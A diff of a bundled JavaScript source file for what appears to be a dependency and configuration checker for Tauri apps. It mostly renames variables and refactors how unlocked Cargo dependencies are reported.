-  const known6 = read3.get(file2) ?? prepare(file2.path, readGitAttributes(file2.text));
-  read3.set(file2, known6);
-  return known6;
+  const known7 = read3.get(file2) ?? prepare(file2.path, readGitAttributes(file2.text));
+  read3.set(file2, known7);
+  return known7;
 }
 function prepare(path, { rules: rules2, macros }) {
   return {
@@ -15591,11 +15639,11 @@ function noLongerConverted(before2, after2, head) {
 }
 function unclearLines(files) {
   return attributeFiles(files).flatMap(
-    (file2) => readGitAttributes(file2.text).unclear.map(({ line, text: text2 }) => {
+    (file2) => readGitAttributes(file2.text).unclear.map(({ line, text: text3 }) => {
       const message = `Not every git reads this line of ${code(file2.path)} alike, so it isn't known what a checkout holds. Write it plainly: no byte order mark, at most 2,000 characters, no attribute that begins with \`builtin_\`.`;
       return gapAt(
         { path: file2.path, line },
-        { kind: "unsupported", rests: wordsOf("unclear", text2), message }
+        { kind: "unsupported", rests: wordsOf("unclear", text3), message }
       );
     })
   );
@@ -15632,8 +15680,8 @@ function idsByPath({ entries, unfollowed }) {
 
 // src/tauri/config-key.ts
 function configKey(value, name) {
-  const [camel, kebab] = spellingsOf(name);
-  return member(value, camel) ?? member(value, kebab);
+  const [camel, kebab2] = spellingsOf(name);
+  return member(value, camel) ?? member(value, kebab2);
 }
 function spellingsOf(name) {
   const words3 = name.replace("macOS", "macos").replace(/^iOS/, "ios").replace(/([a-z0-9])([A-Z])/g, "$1-$2").replace(/([A-Z])([A-Z][a-z])/g, "$1-$2");
@@ -15687,10 +15735,10 @@ function foldersNamed(project, platform) {
 function movedDirectories(project, platform) {
   const tauri = project.locked("tauri");
   if (tauri?.assumed === false && isBefore(tauri.version, "2.12.0")) return {};
-  const setting10 = configKey(member(project.config(platform), "app"), "appDirectoriesOverride");
-  const one = asString(setting10);
-  if (one !== void 0) {
-    const root = one.replace(/(?<=[^/\\]|^[/\\])[/\\]+$/, "");
+  const setting12 = configKey(member(project.config(platform), "app"), "appDirectoriesOverride");
+  const one2 = asString(setting12);
+  if (one2 !== void 0) {
+    const root = one2.replace(/(?<=[^/\\]|^[/\\])[/\\]+$/, "");
     return {
       $APPCONFIG: root,
       $APPDATA: root,
@@ -15701,7 +15749,7 @@ function movedDirectories(project, platform) {
   }
   return Object.fromEntries(
     SINGLE.flatMap(([name, variable5]) => {
-      const path = asString(configKey(setting10, name));
+      const path = asString(configKey(setting12, name));
       return path === void 0 ? [] : [[variable5, path]];
     })
   );
@@ -15729,8 +15777,8 @@ function configSetting(project, platform, ...keys) {
 function canonical(value) {
   if (Array.isArray(value)) return `[${value.map(canonical).join(",")}]`;
   if (typeof value === "object" && value !== null) {
-    const fields = Object.entries(value).sort(([a3], [b5]) => a3 < b5 ? -1 : 1);
-    return `{${fields.map(([name, field2]) => `${JSON.stringify(name)}:${canonical(field2)}`).join(",")}}`;
+    const fields2 = Object.entries(value).sort(([a3], [b5]) => a3 < b5 ? -1 : 1);
+    return `{${fields2.map(([name, field2]) => `${JSON.stringify(name)}:${canonical(field2)}`).join(",")}}`;
   }
   return JSON.stringify(value) ?? "null";
 }
@@ -15740,8 +15788,8 @@ var ANY = [
   [0, 55295],
   [57344, 1114111]
 ];
-function oneOf(text2) {
-  return inOrder(Array.from(text2, codeOf).map((code2) => [code2, code2]));
+function oneOf(text3) {
+  return inOrder(Array.from(text3, codeOf).map((code2) => [code2, code2]));
 }
 function codeOf(character2) {
   return character2.codePointAt(0) ?? 0;
@@ -15811,8 +15859,8 @@ var ANY_TEXT = many(ANY_CHARACTER);
 function character(of2) {
   return { kind: "character", of: of2 };
 }
-function literal(text2) {
-  return sequenceOf(Array.from(text2, (each) => LETTERS[codeOf(each)] ?? single(codeOf(each))));
+function literal(text3) {
+  return sequenceOf(Array.from(text3, (each) => LETTERS[codeOf(each)] ?? single(codeOf(each))));
 }
 function single(code2) {
   return character([[code2, code2]]);
@@ -15880,8 +15928,8 @@ var RustText = class {
   ignoresSpace = false;
   #characters;
   #at = 0;
-  constructor(text2) {
-    this.#characters = Array.from(text2);
+  constructor(text3) {
+    this.#characters = Array.from(text3);
   }
   /** The character here, or one after it; "" where the text has ended. */
   peek(after2 = 0) {
@@ -15902,9 +15950,9 @@ var RustText = class {
     this.#at += 1;
     return character2;
   }
-  takeIf(text2) {
-    const is = Array.from(text2).every((character2, i2) => this.peek(i2) === character2);
-    if (is) this.#at += text2.length;
+  takeIf(text3) {
+    const is = Array.from(text3).every((character2, i2) => this.peek(i2) === character2);
+    if (is) this.#at += text3.length;
     return is;
   }
   /** The same, and then skips what doesn't count. */
@@ -16099,7 +16147,7 @@ var MOST = 4096;
 var MOST_STEPS2 = 3e7;
 var MOST_FOR_ONE = 1e7;
 function remembered(answer) {
-  const known6 = /* @__PURE__ */ new Map();
+  const known7 = /* @__PURE__ */ new Map();
   const ofReviews = /* @__PURE__ */ new WeakMap();
   let kept = 0;
   return (question, work) => {
@@ -16117,14 +16165,14 @@ function remembered(answer) {
     return own;
   }
   function paidFor(question, work) {
-    const outcome2 = known6.get(question) ?? keep2(question, outcomeOf(answer, question));
+    const outcome2 = known7.get(question) ?? keep2(question, outcomeOf(answer, question));
     pay(question, outcome2, work);
     return outcome2;
   }
   function keep2(question, outcome2) {
-    if (known6.size >= MOST || kept > MOST_STEPS2) known6.clear();
-    kept = known6.size === 0 ? outcome2.steps : kept + outcome2.steps;
-    known6.set(question, outcome2);
+    if (known7.size >= MOST || kept > MOST_STEPS2) known7.clear();
+    kept = known7.size === 0 ? outcome2.steps : kept + outcome2.steps;
+    known7.set(question, outcome2);
     return outcome2;
   }
   function pay(question, outcome2, work) {
@@ -16162,7 +16210,7 @@ var STEPS_FOR_ALL = 25e4;
 var unicodeClass = remembered((words3, work) => {
   work.spend(STEPS_FOR_ALL);
   const expression = expressionFor(words3);
-  return expression && inOrder(textOfPlanes().flatMap((text2) => rangesIn(text2, expression)));
+  return expression && inOrder(textOfPlanes().flatMap((text3) => rangesIn(text3, expression)));
 });
 function expressionFor(words3) {
   try {
@@ -16187,8 +16235,8 @@ function textOfPlanes() {
 function codesFrom(start, count) {
   return Array.from({ length: count }, (_3, i2) => start + i2);
 }
-function rangesIn(text2, expression) {
-  return Array.from(text2.matchAll(expression)).flatMap(
+function rangesIn(text3, expression) {
+  return Array.from(text3.matchAll(expression)).flatMap(
     ([run]) => aroundHalves(codeOf(run), codeOf(lastOf(run)))
   );
 }
@@ -16236,9 +16284,9 @@ function splitByFolding(letters) {
 }
 
 // src/language/rust/properties.ts
-function propertyIn(text2, flags, work) {
-  const isNegated = text2.takeAndSkip() === "P";
-  const name = nameIn(text2);
+function propertyIn(text3, flags, work) {
+  const isNegated = text3.takeAndSkip() === "P";
+  const name = nameIn(text3);
   if (!flags.unicode) throw new RefusedExpression("a class of Unicode's without the flag u");
   const sign = ["!=", ":", "="].find((each) => name.includes(each));
   const found9 = sign === void 0 ? classNamed(name, work) : classWith(name, sign, work);
@@ -16246,13 +16294,13 @@ function propertyIn(text2, flags, work) {
   const its = flags.anyCase ? inEveryCase(found9, work) : found9;
   return isNegated === (sign === "!=") ? its : not(its);
 }
-function nameIn(text2) {
-  if (text2.isAtEnd || text2.peek() === "\\") throw new RefusedExpression("a class without a name");
-  if (text2.peek() !== "{") return text2.takeAndSkip();
-  text2.takeAndSkip();
+function nameIn(text3) {
+  if (text3.isAtEnd || text3.peek() === "\\") throw new RefusedExpression("a class without a name");
+  if (text3.peek() !== "{") return text3.takeAndSkip();
+  text3.takeAndSkip();
   let name = "";
-  while (!text2.isAtEnd && text2.peek() !== "}") name += text2.takeAndSkip();
-  if (text2.take() !== "}") throw new RefusedExpression("a brace that doesn't close");
+  while (!text3.isAtEnd && text3.peek() !== "}") name += text3.takeAndSkip();
+  if (text3.take() !== "}") throw new RefusedExpression("a brace that doesn't close");
   return name;
 }
 function classNamed(name, work) {
@@ -16278,8 +16326,8 @@ var PROPERTIES = {
   scx: "Script_Extensions",
   scriptextensions: "Script_Extensions"
 };
-function firstClass(names2, work) {
-  for (const name of names2) {
+function firstClass(names3, work) {
+  for (const name of names3) {
     const found9 = /^[\w=]+$/.test(name) ? unicodeClass(`\\p{${name}}`, work) : void 0;
     if (found9 !== void 0) return found9;
   }
@@ -16297,47 +16345,47 @@ function plain2(name) {
 // src/language/rust/escapes.ts
 var CONTROLS = { a: "\x07", f: "\f", t: "	", n: "\n", r: "\r", v: "\v" };
 var DIGITS = { x: 2, u: 4, U: 8 };
-function escapeIn(text2, flags, work) {
-  text2.take();
-  const name = text2.peek();
+function escapeIn(text3, flags, work) {
+  text3.take();
+  const name = text3.peek();
   if (name === "") throw new RefusedExpression("a backslash at the end");
   if (/^[0-9]$/.test(name)) throw new RefusedExpression("a reference to a group");
-  if (name in DIGITS) return codePoint(text2, DIGITS[name] ?? 0);
-  if (name === "p" || name === "P") return { kind: "class", of: propertyIn(text2, flags, work) };
-  text2.take();
+  if (name in DIGITS) return codePoint(text3, DIGITS[name] ?? 0);
+  if (name === "p" || name === "P") return { kind: "class", of: propertyIn(text3, flags, work) };
+  text3.take();
   if (/^[dswDSW]$/.test(name)) return { kind: "class", of: perlClass(name, flags, work) };
   if (name <= "" && !/^[A-Za-z0-9<>]$/.test(name))
     return { kind: "character", text: name, isByte: false };
   const control = CONTROLS[name];
   if (control !== void 0) return { kind: "character", text: control, isByte: false };
-  if (name === "b") return { kind: "look", name: wordEdge(text2) };
+  if (name === "b") return { kind: "look", name: wordEdge(text3) };
   if (/^[AzB<>]$/.test(name)) return { kind: "look", name: `\\${name}` };
   throw new RefusedExpression(`\\${name}`);
 }
-function wordEdge(text2) {
-  const start = text2.at;
-  if (text2.peek() !== "{") return "\\b";
-  text2.takeAndSkip();
-  if (text2.isAtEnd) throw new RefusedExpression("a brace that doesn't close");
-  if (!/^[A-Za-z-]$/.test(text2.peek())) {
-    text2.at = start;
+function wordEdge(text3) {
+  const start = text3.at;
+  if (text3.peek() !== "{") return "\\b";
+  text3.takeAndSkip();
+  if (text3.isAtEnd) throw new RefusedExpression("a brace that doesn't close");
+  if (!/^[A-Za-z-]$/.test(text3.peek())) {
+    text3.at = start;
     return "\\b";
   }
   let name = "";
-  while (/^[A-Za-z-]$/.test(text2.peek())) name += text2.takeAndSkip();
-  if (text2.take() !== "}") throw new RefusedExpression("a brace that doesn't close");
+  while (/^[A-Za-z-]$/.test(text3.peek())) name += text3.takeAndSkip();
+  if (text3.take() !== "}") throw new RefusedExpression("a brace that doesn't close");
   return `\\b{${name}}`;
 }
-function codePoint(text2, digits2) {
-  const isByte = text2.takeAndSkip() === "x";
-  const isBraced = text2.peek() === "{";
+function codePoint(text3, digits2) {
+  const isByte = text3.takeAndSkip() === "x";
+  const isBraced = text3.peek() === "{";
   let hex = "";
   if (isBraced) {
-    text2.takeAndSkip();
-    while (!text2.isAtEnd && text2.peek() !== "}") hex += text2.takeAndSkip();
-  } else while (hex.length < digits2 && !text2.isAtEnd) hex += text2.takeAndSkip();
-  if (isBraced && text2.isAtEnd) throw new RefusedExpression("a brace that doesn't close");
-  if (isBraced) text2.takeAndSkip();
+    text3.takeAndSkip();
+    while (!text3.isAtEnd && text3.peek() !== "}") hex += text3.takeAndSkip();
+  } else while (hex.length < digits2 && !text3.isAtEnd) hex += text3.takeAndSkip();
+  if (isBraced && text3.isAtEnd) throw new RefusedExpression("a brace that doesn't close");
+  if (isBraced) text3.takeAndSkip();
   if (!/^[0-9A-Fa-f]+$/.test(hex) || !isBraced && hex.length < digits2)
     throw new RefusedExpression("no code point");
   const code2 = Number.parseInt(hex, 16);
@@ -16385,8 +16433,8 @@ var POSIX = {
 
 // src/language/rust/class.ts
 var MOST_NESTED = 50;
-function classIn(text2, flags, work) {
-  return new ClassReader(text2, flags, work).read(0);
+function classIn(text3, flags, work) {
+  return new ClassReader(text3, flags, work).read(0);
 }
 var OPERATIONS = {
   "&&": both,
@@ -16397,8 +16445,8 @@ var ClassReader = class {
   #text;
   #flags;
   #work;
-  constructor(text2, flags, work) {
-    this.#text = text2;
+  constructor(text3, flags, work) {
+    this.#text = text3;
     this.#flags = flags;
     this.#work = work;
   }
@@ -16466,10 +16514,10 @@ var ClassReader = class {
     return found9.kind === "class" ? found9.of : this.#character(found9.text);
   }
   /** Without the flag `u`, a class is made of bytes, so it can't name a character of several bytes. */
-  #character(text2) {
-    if (!this.#flags.unicode && codeOf(text2) > LAST_OF_ASCII)
+  #character(text3) {
+    if (!this.#flags.unicode && codeOf(text3) > LAST_OF_ASCII)
       throw new RefusedExpression("half a character in a class");
-    return text2;
+    return text3;
   }
   #united(members2) {
     const united = either(...members2);
@@ -16491,20 +16539,20 @@ var LAST_OF_ASCII = 127;
 
 // src/language/rust/flags.ts
 var NO_FLAGS2 = { anyCase: false, lines: false, dotTakesAll: false, unicode: true };
-function flagsIn2(text2, flags) {
+function flagsIn2(text3, flags) {
   let result2 = flags;
-  let ignoresSpace = text2.ignoresSpace;
+  let ignoresSpace = text3.ignoresSpace;
   let isSet = true;
   const seen = /* @__PURE__ */ new Set();
-  while (text2.peek() !== ":" && text2.peek() !== ")") {
-    const flag = text2.take();
-    if (text2.isAtEnd || seen.has(flag))
+  while (text3.peek() !== ":" && text3.peek() !== ")") {
+    const flag = text3.take();
+    if (text3.isAtEnd || seen.has(flag))
       throw new RefusedExpression("flags that don't end, or stand there twice");
     seen.add(flag);
     if (flag === "-") isSet = false;
     else if (flag === "x") ignoresSpace = isSet;
     else result2 = { ...result2, ...changeOf(flag, isSet) };
-    if (flag === "-" && /^[:)]$/.test(text2.peek())) throw new RefusedExpression("a minus without flags");
+    if (flag === "-" && /^[:)]$/.test(text3.peek())) throw new RefusedExpression("a minus without flags");
   }
   return { flags: result2, ignoresSpace, count: seen.size };
 }
@@ -16556,10 +16604,10 @@ var WORDS2 = {
   "\\b{end-half}": (_3, after2) => after2 !== "in"
 };
 var atWords = (of2, holds6) => {
-  const known6 = LOOKS2.get(of2) ?? /* @__PURE__ */ new Map();
-  LOOKS2.set(of2, known6);
-  const found9 = known6.get(holds6) ?? look(of2, holds6);
-  known6.set(holds6, found9);
+  const known7 = LOOKS2.get(of2) ?? /* @__PURE__ */ new Map();
+  LOOKS2.set(of2, known7);
+  const found9 = known7.get(holds6) ?? look(of2, holds6);
+  known7.set(holds6, found9);
   return found9;
 };
 var LOOKS2 = /* @__PURE__ */ new WeakMap();
@@ -16669,24 +16717,24 @@ var RustReader = class {
   }
   #group(depth) {
     if (depth > MOST_DEEP) throw new RefusedExpression("groups in one another");
-    const [text2, flags, ignoredSpace] = [this.#text, this.#flags, this.#text.ignoresSpace];
-    text2.takeAndSkip();
-    if (/^(?:=|!|<=|<!)/.test(text2.peek() === "?" ? text2.peek(1) + text2.peek(2) : ""))
+    const [text3, flags, ignoredSpace] = [this.#text, this.#flags, this.#text.ignoresSpace];
+    text3.takeAndSkip();
+    if (/^(?:=|!|<=|<!)/.test(text3.peek() === "?" ? text3.peek(1) + text3.peek(2) : ""))
       throw new RefusedExpression("a look around");
-    if (text2.takeIf("?P<") || text2.takeIf("?<")) this.#name();
-    else if (text2.takeIf("?")) {
-      const found9 = flagsIn2(text2, flags);
+    if (text3.takeIf("?P<") || text3.takeIf("?<")) this.#name();
+    else if (text3.takeIf("?")) {
+      const found9 = flagsIn2(text3, flags);
       this.#flags = found9.flags;
-      text2.ignoresSpace = found9.ignoresSpace;
-      if (text2.take() === ")") {
+      text3.ignoresSpace = found9.ignoresSpace;
+      if (text3.take() === ")") {
         if (found9.count === 0) throw new RefusedExpression("nothing to repeat");
         return { expression: EMPTY, depth: 0, isFlags: true };
       }
     }
     const inside = this.#alternatives(depth);
-    if (!text2.takeIf(")")) throw new RefusedExpression("a group that doesn't close");
+    if (!text3.takeIf(")")) throw new RefusedExpression("a group that doesn't close");
     this.#flags = flags;
-    text2.ignoresSpace = ignoredSpace;
+    text3.ignoresSpace = ignoredSpace;
     return deeper(inside);
   }
   #name() {
@@ -16724,8 +16772,8 @@ var RustReader = class {
     if (!this.#flags.unicode) throw new RefusedExpression("half a character");
     return this.#flags.dotTakesAll ? ANY_CHARACTER : character(NO_LINE_FEED);
   }
-  #literal(text2) {
-    return character(this.#inCase(oneOf(text2)));
+  #literal(text3) {
+    return character(this.#inCase(oneOf(text3)));
   }
   #inCase(set) {
     if (!this.#flags.anyCase) return set;
@@ -16834,9 +16882,9 @@ var assetProtocol = {
   }
 };
 function grantsOn(project, platform) {
-  const setting10 = project.major === 1 ? allowlisted(project.config(platform)) : configured(project.config(platform));
-  if (setting10 === void 0) return [];
-  const { enabled, scope } = setting10;
+  const setting12 = project.major === 1 ? allowlisted(project.config(platform)) : configured(project.config(platform));
+  if (setting12 === void 0) return [];
+  const { enabled, scope } = setting12;
   const everyWindow = [{ text: "*", at: enabled.at }];
   const grant = {
     domain: "ipc",
@@ -16873,9 +16921,9 @@ function settingsOn(project, platform) {
   return [configSetting(project, platform, ...scope, "requireLiteralLeadingDot")];
 }
 function configured(config) {
-  const setting10 = configKey(pick(config, "app", "security"), "assetProtocol");
-  const enabled = member(setting10, "enable");
-  return enabled !== void 0 && asBoolean(enabled) === true ? { enabled, scope: member(setting10, "scope") } : void 0;
+  const setting12 = configKey(pick(config, "app", "security"), "assetProtocol");
+  const enabled = member(setting12, "enable");
+  return enabled !== void 0 && asBoolean(enabled) === true ? { enabled, scope: member(setting12, "scope") } : void 0;
 }
 function allowlisted(config) {
   const allowlist = pick(config, "tauri", "allowlist");
@@ -16923,15 +16971,15 @@ function walk(graph, roots, steps) {
 function wayTo(graph, node, steps) {
   const end = steps.get(node);
   if (end === void 0) return [];
-  const names2 = [];
+  const names3 = [];
   let at2 = node;
   for (let step = end; at2 !== void 0 && step !== void 0 && step.depth > 0; ) {
-    if (names2.length === LONGEST2) return [end.first, "…", ...names2.slice(0, LONGEST2 - 2).reverse()];
-    names2.push(graph.nameOf(at2));
+    if (names3.length === LONGEST2) return [end.first, "…", ...names3.slice(0, LONGEST2 - 2).reverse()];
+    names3.push(graph.nameOf(at2));
     at2 = step.parent;
     step = at2 === void 0 ? void 0 : steps.get(at2);
   }
-  return names2.reverse();
+  return names3.reverse();
 }
 
 // src/readers/package-need.ts
@@ -16982,13 +17030,13 @@ var FILES = [
 // src/readers/cargo-lock/needs.ts
 function neededCrates(base, head) {
   const inBase = new Set(base.map(identityOf2));
-  const known6 = Map.groupBy(base, (crate2) => crate2.name);
+  const known7 = Map.groupBy(base, (crate2) => crate2.name);
   const added = Map.groupBy(
     head.filter((crate2) => !inBase.has(identityOf2(crate2))),
     (crate2) => crate2.name
   );
   return [...added].flatMap(([name, crates]) => {
-    const old = known6.get(name) ?? [];
+    const old = known7.get(name) ?? [];
     const risk = riskOf(name, old);
     return [...crates, ...old].flatMap((crate2) => needOf(crate2, risk) ?? []);
   });
@@ -17070,7 +17118,7 @@ function whyNotAsked(crate2) {
 // src/tauri/rust/targets.ts
 function crateTargets(manifest2, folder, contents) {
   const tables2 = [member(manifest2, "lib"), ...itemsOf(member(manifest2, "bin"))];
-  const named9 = tables2.flatMap((table2) => {
+  const named10 = tables2.flatMap((table2) => {
     const path = member(table2, "path");
     return path?.kind === "string" ? [{ path: joined(folder, path.value), named: path.value, at: path.at }] : [];
   });
@@ -17078,19 +17126,19 @@ function crateTargets(manifest2, folder, contents) {
     const path = inFolder(folder, name);
     return contents.isFile(path) ? [{ path, named: name, at: null }] : [];
   });
-  return [...named9, ...found9];
+  return [...named10, ...found9];
 }
 function buildScriptTarget(manifest2, folder) {
-  const named9 = pick(manifest2, "package", "build") ?? pick(manifest2, "project", "build");
-  if (named9?.kind === "boolean" && !named9.value) return null;
-  const name = asString(named9) ?? "build.rs";
-  return { path: joined(folder, name), named: name, at: named9?.at ?? null };
+  const named10 = pick(manifest2, "package", "build") ?? pick(manifest2, "project", "build");
+  if (named10?.kind === "boolean" && !named10.value) return null;
+  const name = asString(named10) ?? "build.rs";
+  return { path: joined(folder, name), named: name, at: named10?.at ?? null };
 }
 
 // src/tauri/cargo/built-code.ts
 function builtCode(project) {
-  const known6 = found2.get(project);
-  if (known6 !== void 0) return known6;
+  const known7 = found2.get(project);
+  if (known7 !== void 0) return known7;
   const code2 = builtCrates(project).flatMap((built) => codeOf2(built, project.contents));
   found2.set(project, code2);
   return code2;
@@ -17104,20 +17152,20 @@ function builtCrates({ location, files, config, flags }) {
   const enabled = isOptional ? PLATFORMS.map(
     (platform) => enabledFeatures(workspace, files, platform, requestedFeatures(config(platform), flags))
   ) : [];
-  const asked2 = [
+  const asked3 = [
     { folder: workspace.own.folder, at: workspace.own.value.at },
     ...patchesOf(workspace).flatMap(
       ({ source, value: { at: at2 } }) => source.kind === "path" && source.folder !== null ? [{ folder: source.folder, at: at2 }] : []
     )
   ];
   const built = /* @__PURE__ */ new Map();
-  for (const { folder, at: at2 } of asked2) {
+  for (const { folder, at: at2 } of asked3) {
     const crate2 = crates.get(folder);
     if (crate2 === void 0 || built.has(folder)) continue;
     built.set(folder, { crate: crate2, askedAt: at2 });
     for (const dependency of crate2.dependencies)
       if (isBuilt(dependency, crate2.manifest, enabled) && dependency.source.kind === "path")
-        asked2.push({ folder: dependency.source.folder ?? "", at: dependency.value.at });
+        asked3.push({ folder: dependency.source.folder ?? "", at: dependency.value.at });
   }
   return [...built.values()];
 }
@@ -17140,8 +17188,8 @@ function codeOf2({ crate: { manifest: manifest2, isMacro }, askedAt }, contents)
   );
 }
 function libraryOf(manifest2, folder) {
-  const named9 = asString(pick(manifest2, "lib", "path"));
-  return named9 === void 0 ? inFolder(folder, "src/lib.rs") : joined(folder, named9);
+  const named10 = asString(pick(manifest2, "lib", "path"));
+  return named10 === void 0 ? inFolder(folder, "src/lib.rs") : joined(folder, named10);
 }
 
 // src/tauri/cargo/sources.ts
@@ -17160,8 +17208,8 @@ function isOfSource(locked, source) {
 function lockedInWords(locked) {
   if (isOwnRegistry(locked)) return registryName("cargo");
   if (locked.kind === "path") return "this repository";
-  const text2 = sourceText(locked);
-  return code(text2.slice(text2.indexOf(" ") + 1));
+  const text3 = sourceText(locked);
+  return code(text3.slice(text3.indexOf(" ") + 1));
 }
 function sourceInWords2(source) {
   switch (source.kind) {
@@ -17212,27 +17260,38 @@ function lockedNeeds(workspace, files) {
   );
 }
 function needsBeside(workspace, files) {
-  const known6 = new Set(localCrates(workspace, files).map(({ manifest: manifest2 }) => manifest2.path));
+  const known7 = new Set(localCrates(workspace, files).map(({ manifest: manifest2 }) => manifest2.path));
   return [...files.keys()].flatMap((path) => {
-    if (baseName(path) !== "Cargo.toml" || known6.has(path) || !isMember(workspace, folderOf(path))) return [];
+    if (baseName(path) !== "Cargo.toml" || known7.has(path) || !isMember(workspace, folderOf(path))) return [];
     const manifest2 = readManifest(files.get(path));
     if (manifest2?.name === void 0) return [];
     return dependenciesOf(manifest2, workspace.root).map((dependency) => ({ dependency, path }));
   });
 }
 function unlockedDependencies(needs, patches, lock) {
-  return needs.filter(({ dependency }) => !isHeld(dependency, patches, lock)).map(({ dependency, path }) => unlocked(dependency, path, lock));
+  const unheld = needs.filter(({ dependency }) => !isHeld(dependency, patches, lock));
+  const isFolder = ({ dependency }) => dependency.source.kind === "path";
+  return {
+    grants: unheld.filter((need) => !isFolder(need)).map(
+      ({ dependency }) => unpinned2(dependency, { path: lock.path, has: whatLockHas(dependency.crate, lock) })
+    ),
+    gaps: unheld.filter(isFolder).map(({ dependency, path }) => unlockedFolder(dependency, path, lock))
+  };
 }
 function unpinnedCrates(needs) {
-  return needs.filter(({ dependency }) => dependency.kind !== "dev" && !isHere(dependency)).map(({ dependency }) => ({
+  return needs.filter(({ dependency }) => dependency.kind !== "dev" && !isHere(dependency)).map(({ dependency }) => unpinned2(dependency, null));
+}
+function unpinned2(dependency, lock) {
+  return {
     domain: "packages",
     kind: "unpinned-package",
     ecosystem: "cargo",
     name: dependency.crate,
     wanted: wantedOf(dependency),
     from: sourceInWords2(dependency.source),
+    lock,
     at: dependency.value.at
-  }));
+  };
 }
 function unlockedPatches(patches, lock) {
   return patches.filter(({ crate: crate2, source }) => !entriesFor(crate2, lock).some((entry) => isOfSource(entry.source, source))).map(({ table: table2, crate: crate2, version, source, value }) => {
@@ -17271,10 +17330,9 @@ function isHeld(dependency, patches, lock) {
     (entry) => sources.some((each) => isOfSource(entry.source, each)) && (requirement === void 0 || satisfies(entry.version, requirement) === true)
   );
 }
-function unlocked(dependency, path, lock) {
+function unlockedFolder(dependency, path, lock) {
   const { crate: crate2, source, requirement, kind, value } = dependency;
-  const taken3 = source.kind === "path" ? "each build compiles what lies there and runs its build script" : "each build takes what fits that day";
-  const message = `${code(path)} asks for ${code(wantedOf(dependency))} from ${sourceInWords2(source)}, and ${code(lock.path)} ${whatLockHas(crate2, lock)}: ${taken3}, unless it is told ${code("--locked")}. Commit the Cargo.lock that cargo writes.`;
+  const message = `${code(path)} asks for ${code(wantedOf(dependency))} from ${sourceInWords2(source)}, and ${code(lock.path)} ${whatLockHas(crate2, lock)}: each build compiles what lies there and runs its build script, unless it is told ${code("--locked")}. Commit the Cargo.lock that cargo writes.`;
   const rests = wordsOf("not locked", crate2, requirement, source, kind === "dev");
   return gapAt(value.at, { kind: "not-checked", rests, message });
 }
@@ -17308,9 +17366,9 @@ function unreadManifests({ files }) {
 }
 function missingCrates(crates, patches, held2) {
   const dependencies = crates.flatMap((crate2) => crate2.dependencies).filter(({ kind }) => kind !== "dev");
-  const missing = [...dependencies, ...patches].flatMap((each) => missingIn(each, held2));
-  const behind2 = Map.groupBy(missing, ({ link: link2 }) => link2 && causeOf(link2));
-  return missing.map((each) => missingGap(each, behind2.get(each.link && causeOf(each.link)) ?? []));
+  const missing2 = [...dependencies, ...patches].flatMap((each) => missingIn(each, held2));
+  const behind2 = Map.groupBy(missing2, ({ link: link2 }) => link2 && causeOf(link2));
+  return missing2.map((each) => missingGap(each, behind2.get(each.link && causeOf(each.link)) ?? []));
 }
 function missingIn(wanted, { files, contents }) {
   const { source } = wanted;
@@ -17332,8 +17390,8 @@ function missingGap({ wanted, written: written6, there, link: link2, isOutside }
   }
   const rests = wordsOf("crate not here", crate2, written6, there);
   if (link2 !== void 0) {
-    const names2 = [...new Set(behind2.map((each) => each.wanted.crate))];
-    const message2 = `The ${link2.what} ${code(link2.path)} isn't followed, and the app is built with what lies there (${someOf(names2)}): what these crates depend on, and what they turn on, is not known.`;
+    const names3 = [...new Set(behind2.map((each) => each.wanted.crate))];
+    const message2 = `The ${link2.what} ${code(link2.path)} isn't followed, and the app is built with what lies there (${someOf(names3)}): what these crates depend on, and what they turn on, is not known.`;
     return gapAt(value.at, { kind: "not-followed", rests, message: message2, cause: causeOf(link2) });
   }
   const where = isOutside ? "outside of this repository" : "which isn't read here";
@@ -17400,8 +17458,8 @@ function chainOf(name, sources) {
   }
   return [...chain];
 }
-function firstOf(names2, find2) {
-  for (const name of names2) {
+function firstOf(names3, find2) {
+  for (const name of names3) {
     const found9 = find2(name);
     if (found9 !== void 0) return found9;
   }
@@ -17446,13 +17504,13 @@ function flagsOfRelease(source) {
   return [profile, ...single2].flatMap((table2) => flagsIn3(member(table2, "rustflags")));
 }
 function pathsOfFlag({ name, value }, root) {
-  const named9 = name.startsWith("@") ? name.slice(1) : value.replace(/^.*=/s, "");
-  if (!/[\w/]/.test(named9)) return [];
-  return withAncestors(root).flatMap((folder) => joined(folder, named9.replaceAll("\\", "/")) ?? []);
+  const named10 = name.startsWith("@") ? name.slice(1) : value.replace(/^.*=/s, "");
+  if (!/[\w/]/.test(named10)) return [];
+  return withAncestors(root).flatMap((folder) => joined(folder, named10.replaceAll("\\", "/")) ?? []);
 }
 function flagsIn3(value) {
-  const text2 = asString(value);
-  const words3 = value !== void 0 && text2 !== void 0 ? text2.split(/\s+/).map((word2) => ({ word: word2, at: value.at })) : itemsOf(value).flatMap((item) => {
+  const text3 = asString(value);
+  const words3 = value !== void 0 && text3 !== void 0 ? text3.split(/\s+/).map((word2) => ({ word: word2, at: value.at })) : itemsOf(value).flatMap((item) => {
     const word2 = asString(item);
     return word2 === void 0 ? [] : [{ word: word2, at: item.at }];
   });
@@ -17473,8 +17531,8 @@ function debugAssertions({ location, files, flags }, platform) {
   );
   if (flag !== void 0) {
     const isOn = !/^(?:n|no|off|false)$/.test(flag.value);
-    const setting10 = { written: 'rustflags = ["-C", "debug-assertions"]', at: flag.at };
-    return () => isOn ? setting10 : void 0;
+    const setting12 = { written: 'rustflags = ["-C", "debug-assertions"]', at: flag.at };
+    return () => isOn ? setting12 : void 0;
   }
   const { all, crates } = debugProfile(location.root, files, flags);
   return (crate2) => {
@@ -17503,8 +17561,8 @@ function singleCrates({ location, files, flags }) {
 }
 function besideInspector(project) {
   const on3 = PLATFORMS.flatMap((platform) => {
-    const setting10 = debugAssertions(project, platform)("tauri");
-    return setting10 !== void 0 && hasInspector(project, platform) ? [setting10] : [];
+    const setting12 = debugAssertions(project, platform)("tauri");
+    return setting12 !== void 0 && hasInspector(project, platform) ? [setting12] : [];
   });
   const [first] = on3;
   if (first === void 0) return [];
@@ -17536,8 +17594,8 @@ function devServer({ major, location, files, flags, config, manifest: manifest2 
   if (major !== 1 || feature === void 0) return [];
   const workspace = cargoWorkspace(location.root, files);
   const requested = requestedFeatures(config("linux"), flags);
-  const named9 = [...requested.named, { value: "custom-protocol", at: feature.at }];
-  const enabled = enabledFeatures(workspace, files, "linux", { ...requested, named: named9 });
+  const named10 = [...requested.named, { value: "custom-protocol", at: feature.at }];
+  const enabled = enabledFeatures(workspace, files, "linux", { ...requested, named: named10 });
   if (enabled.of("tauri", "app")?.features.has("custom-protocol") === true) return [];
   const devPath = asString(pick(config("linux"), "build", "devPath"));
